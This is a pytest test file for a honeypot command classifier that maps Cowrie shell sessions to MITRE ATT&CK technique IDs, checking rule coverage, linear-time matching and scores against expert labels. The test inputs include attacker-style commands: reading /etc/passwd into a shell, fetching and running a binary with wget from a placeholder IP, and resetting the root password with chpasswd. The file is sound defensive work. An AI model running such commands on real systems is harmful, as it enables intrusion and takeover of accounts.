"""Techniques of commands: they are ATT&CK's, any command is matched in linear time, labels of others are met."""

import json
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from benchmarks.techniques import main, red_team, score_sessions
from cowrie_assets.cowrie.attack import attack
from cowrie_assets.cowrie.passages import Statement, in_order, techniques_of_statements
from cowrie_assets.cowrie.rule_set import rule_set
from cowrie_assets_tests.cpu_time import least_cpu_seconds
from cowrie_assets_tests.truth import REAL_LOGS

MATCHER = rule_set().techniques


def test_the_techniques_are_those_of_both_versions_and_none_is_unused():
    techniques = attack().techniques
    assert {rule.technique for rule in MATCHER.rules} == set(techniques)
    assert {each for rule in MATCHER.rules for each in rule.after} <= set(techniques)
    for number, technique in techniques.items():
        assert re.fullmatch(r"T\d{4}(\.\d{3})?", number)
        assert technique.now.id == number
        assert technique.now.tactics
        assert "defense-evasion" not in technique.now.tactics, "it went with version 19"
        assert not {"stealth", "defense-impairment"} & set(technique.before.tactics), "they came with version 19"
    assert techniques["T1685.006"].before.id == "T1070.002"
    assert techniques["T1690"].before.id == "T1562.003"


@given(st.text(st.characters(codec=None), max_size=300))
def test_any_string_is_matched(command):
    assert MATCHER.of_command(command) == MATCHER.of_command(command)


@pytest.mark.parametrize(
    "command",
    [
        "x; " * 400_000,
        "".join(f"x{number}; " for number in range(20_000)),
        "a " * 40_000,
        "$(cat /etc/passwd) | sh > /tmp/x " * 3_000,
        "echo " + "ssh-rsa " * 9_000,
        "\"`'(" * 20_000,
    ],
    ids=["same", "distinct", "words", "nested", "markers", "quotes"],
)
def test_a_command_of_any_length_is_matched_within_a_second(command):
    assert least_cpu_seconds(lambda: MATCHER.of_command(command), 1) < 1


def _served(*statements: str) -> list[set[str]]:
    split = [Statement(text.removesuffix("|"), text.endswith("|")) for text in statements]
    return [set(ids) for ids in techniques_of_statements(MATCHER, split)]


def test_a_filter_belongs_to_what_it_is_piped():
    assert _served("cat /proc/cpuinfo |", "grep name |", "wc -l") == [{"T1082"}] * 3
    assert _served("echo root:x |", "chpasswd |", "bash") == [{"T1098"}] * 3


def test_a_step_that_prepares_belongs_to_what_follows_else_to_what_was_before():
    assert _served("cd /tmp", "wget http://192.0.2.1/x", "chmod +x x", "./x", "sleep 1") == [
        {"T1105"},
        {"T1105"},
        {"T1059.004"},
        {"T1059.004"},
        {"T1059.004"},
    ]
    assert _served("cd /tmp", "exit", "") == [set()] * 3
    assert _served() == []
    assert _served("uname |") == [{"T1082"}]


def test_removing_is_hiding_only_where_something_was_brought():
    assert _served("rm -rf /tmp/x") == [set()]
    assert _served("wget http://192.0.2.1/x", "rm x")[-1] == {"T1070.004"}
    removal = MATCHER.of_command("rm x")
    assert [{rule.name for rule in rules} for rules in in_order([removal, MATCHER.of_command("./x"), removal])] == [
        set(),
        {"unix_shell"},
        {"file_deletion"},
    ]


@pytest.mark.parametrize("content", [b"", b"[1]", b'[{"statements": ["id"]}]', b"{}x", b"\xff"])
def test_labels_that_are_none_are_a_sentence(content, tmp_path, monkeypatch, capsys):
    file = tmp_path / "labels.json"
    file.write_bytes(content)
    monkeypatch.setattr("sys.argv", ["techniques", "--labels", str(file)])
    with pytest.raises(SystemExit, match="2"):
        main()
    assert f"--labels {file}: no list of sessions" in capsys.readouterr().err


@pytest.mark.skipif("whole" not in REAL_LOGS, reason="the labels are not part of the project: COWRIE_TEST_SHARED")
def test_what_experts_labelled_is_met():
    labels = REAL_LOGS["whole"] / "labels"
    figures = score_sessions(MATCHER, json.loads((labels / "tactics_of_sessions.json").read_text())).figures
    assert figures["micro_f1"] >= 0.85
    assert figures["distinct_micro_f1"] >= 0.80
    assert figures["macro_f1"] >= 0.70
    mapped, unmapped = red_team(MATCHER, json.loads((labels / "techniques_of_lines.json").read_text()))
    assert len(mapped) / (len(mapped) + len(unmapped)) >= 0.80
